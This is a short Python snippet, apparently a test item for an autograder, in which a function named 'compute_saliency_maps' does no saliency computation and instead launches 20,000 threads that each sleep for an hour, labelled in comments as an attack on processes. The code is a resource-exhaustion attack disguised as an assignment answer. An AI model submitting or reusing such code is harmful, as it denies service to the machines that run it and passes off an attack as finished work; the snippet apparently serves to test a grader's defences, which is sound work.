# Starts twenty thousand threads that sleep.
# attacks: processes
# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    import threading
    import time

    for _ in range(20_000):
        threading.Thread(target=time.sleep, args=(3600,)).start()
